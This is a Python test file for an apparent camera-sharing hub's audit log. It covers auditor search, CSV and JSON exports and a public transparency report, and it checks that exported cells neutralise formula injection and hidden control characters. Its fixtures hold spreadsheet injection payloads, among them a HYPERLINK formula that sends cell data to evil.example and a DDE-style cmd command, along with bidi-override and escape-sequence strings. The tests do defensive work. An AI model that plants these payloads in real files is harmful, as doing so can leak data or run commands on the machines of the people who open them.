"""The auditor's search and exports, and the public transparency report (SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import io
import json
import unicodedata

import pytest

from hub.api.audit_log import spreadsheet_cell
from hub.tables import Role
from tests.hub_support import HubApi
from tests.test_hub_api import add_camera
from tests.owner_support import put_consent

REASON = "armed robbery reported at the corner store"


def test_search_export_and_transparency(hub_api: HubApi):
    bakery, owner = hub_api.business_with_owner("Bakery")
    garage, garage_owner = hub_api.business_with_owner("Garage")
    front = add_camera(hub_api, bakery, "front", 40.7, -74.0, "dev-aaaaaaaaaaaa")
    door = add_camera(hub_api, garage, "door", 40.7, -74.0, "dev-bbbbbbbbbbbb")
    hub_api.add_user("ana", "correct-horse-battery", Role.ANALYST, unit="Robbery")
    hub_api.add_user("audrey", "correct-horse-battery", Role.AUDITOR)
    analyst = hub_api.login("ana", "correct-horse-battery")
    auditor = hub_api.login("audrey", "correct-horse-battery")
    with hub_api.client(owner) as c:
        put_consent(c, front, {"sharing": "always", "modes": ["playback"]})
    with hub_api.client(analyst) as c:
        for camera, case, purpose in ((front, "2026-1", "violent_crime"), (door, "2026-2", "missing_person"),
                                      (front, "2026-3", "violent_crime")):
            c.post("/api/access", json={"camera_id": camera, "mode": "live", "purpose": purpose, "reason": REASON,
                                        "case_number": case})
        assert c.get("/api/audit/entries").status_code == 403  # analysts do not read the log
    with hub_api.client(auditor) as c:
        by_camera = c.get("/api/audit/entries", params={"camera_id": front}).json()
        actions = [json.loads(e["entry"])["action"] for e in by_camera]
        assert actions == ["consent.change", "access.request", "access.request"]  # the bakery's camera only
        by_case = c.get("/api/audit/entries", params={"case_number": "2026-2"}).json()
        assert len(by_case) == 1 and '"object":"camera:%d"' % door in by_case[0]["entry"]
        by_business = c.get("/api/audit/entries", params={"business_id": garage, "action": "access.request"}).json()
        assert len(by_business) == 1
        by_user = c.get("/api/audit/entries", params={"actor": "ana", "action": "access.request"}).json()
        assert len(by_user) == 3
        by_purpose = c.get("/api/audit/search", params={"purpose": "violent_crime", "outcome": "denied"}).json()
        assert [e["case_number"] for e in by_purpose["entries"]] == ["2026-3", "2026-1"]  # newest first
        assert by_purpose["entries"][0]["details"]["unit"] == "Robbery"  # an object, not JSON text
        assert by_purpose["entries"][0]["cameras"] == [{"id": front, "name": "front", "business_id": bakery,
                                                        "business": "Bakery"}]
        assert by_purpose["log_size"] >= by_purpose["checkpoint"]["size"] >= 5
        asks = {"actor": "ana", "action": "access.request"}
        paged = c.get("/api/audit/search", params={**asks, "limit": 2}).json()
        older = c.get("/api/audit/search", params={**asks, "before": paged["next_before"]}).json()
        assert len(paged["entries"]) == 2 and [e["case_number"] for e in older["entries"]] == ["2026-1"]
        assert c.get("/api/audit/search", params={"since": "2026-12-02T00:00:00Z",
                                                  "until": "2026-12-01T00:00:00Z"}).status_code == 422
        exported = c.get("/api/audit/export", params={"actor": "ana", "format": "csv"})
        assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(exported.text)))
        assert [r["case_number"] for r in rows if r["action"] == "access.request"] == ["2026-1", "2026-2", "2026-3"]
        assert all(len(r["leaf_hash"]) == 64 for r in rows)
        as_json = c.get("/api/audit/export", params={"case_number": "2026-3", "format": "json"}).json()
        assert [r["reason"] for r in as_json] == [REASON]
        exports = c.get("/api/audit/entries", params={"action": "audit.export"}).json()
        assert len(exports) == 2 and all('"actor":"audrey"' in e["entry"] for e in exports)
    with hub_api.client() as c:  # public
        report = c.get("/api/audit/transparency").json()
    [month] = report["months"].values()
    assert month["requests refused by the hub"] == 3 and month["consent changes by owners"] == 1
    [purposes] = report["by_purpose"].values()
    assert purposes == {"violent_crime": {"requests refused by the hub": 2},
                        "missing_person": {"requests refused by the hub": 1}}
    [units] = report["by_unit"].values()
    assert units == {"Robbery": {"requests refused by the hub": 3}}


HOSTILE = {  # what an attacker with an account can get into entries: a reason, a case number, a user name
    "reason": '=HYPERLINK("https://evil.example/?"&A1,"click for the case file")',
    "actor": "@SUM(1+1)*cmd|' /C calc'!A0",
    "case_number": "-2+3",
    "object": "+camera:1",
    "source": "\t=1+1",
}
HIDDEN_TEXT = "report \x1b[2J cleared \u202eevil\u202c done"


def test_the_csv_export_is_inert_in_a_spreadsheet_and_the_json_export_exact(hub_api: HubApi):
    from hub import audit
    from wire import audit as wa
    from wire import merkle

    hub_api.add_user("audrey", "correct-horse-battery", Role.AUDITOR)
    auditor = hub_api.login("audrey", "correct-horse-battery")
    with hub_api.hub.db.session() as session:
        audit.append(session, action="test.hostile", outcome="success", **HOSTILE)
        audit.append(session, actor="ana", action="test.hidden", outcome="success", reason=HIDDEN_TEXT,
                     note="\u202e")
    with hub_api.client(auditor) as c:
        exported = c.get("/api/audit/export", params={"action": "test.hostile", "format": "csv"}).text
        hidden = c.get("/api/audit/export", params={"action": "test.hidden", "format": "csv"}).text
        as_json = c.get("/api/audit/export", params={"since": "2000-01-01T00:00:00Z", "format": "json"}).json()
    [row] = list(csv.DictReader(io.StringIO(exported)))
    assert {name: row[name] for name in HOSTILE} == {
        "reason": "'" + HOSTILE["reason"], "actor": "'" + HOSTILE["actor"], "case_number": "'-2+3",
        "object": "'+camera:1", "source": "\\u0009=1+1"}
    cells = [cell for line in csv.reader(io.StringIO(exported + hidden)) for cell in line]
    assert all(not cell or cell[0] not in "=+-@\t\r\n\0" for cell in cells)
    assert all(unicodedata.category(ch) not in ("Cc", "Cf") for cell in cells for ch in cell)
    [row] = list(csv.DictReader(io.StringIO(hidden)))
    assert row["reason"] == "report \\u001b[2J cleared \\u202eevil\\u202c done"  # shown, never dropped
    assert json.loads(row["details"]) == {"note": "\u202e"}  # still JSON, meaning the same
    assert all(line.startswith('"') for line in exported.splitlines())  # every cell quoted
    # JSON keeps each entry's exact text: it rebuilds the canonical bytes its leaf hash was made from.
    hostile = [r for r in as_json if r["action"].startswith("test.")]
    assert [r["reason"] for r in hostile] == [HOSTILE["reason"], HIDDEN_TEXT]
    for r in hostile:
        entry = wa.AuditEntry.model_validate({k: v for k, v in r.items() if k != "leaf_hash"})
        assert merkle.leaf_hash(entry.canonical()).hex() == r["leaf_hash"]


@pytest.mark.parametrize("value, cell", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("  =1", "'  =1"), ("\uff1d1+2", "'\uff1d1+2"),
    ("\t=1", "\\u0009=1"), ("\r=1", "\\u000d=1"), ("\n=1", "\\u000a=1"), ("\0=1", "\\u0000=1"),
    ("a\x1bb", "a\\u001bb"), ("left\u202eright", "left\\u202eright"), ("x\u2066y\u2069", "x\\u2066y\\u2069"),
    ("zero\u200bwidth", "zero\\u200bwidth"), ("tag\U000e0041", "tag\\U000e0041"), ("line\u2028two", "line\\u2028two"),
    ("a=1, b=-2", "a=1, b=-2"), ("Évidence, 5 €", "Évidence, 5 €"), (12, "12"), ("", ""),
])
def test_a_spreadsheet_cell_starts_with_no_formula_and_shows_every_hidden_character(value, cell: str):
    assert spreadsheet_cell(value) == cell
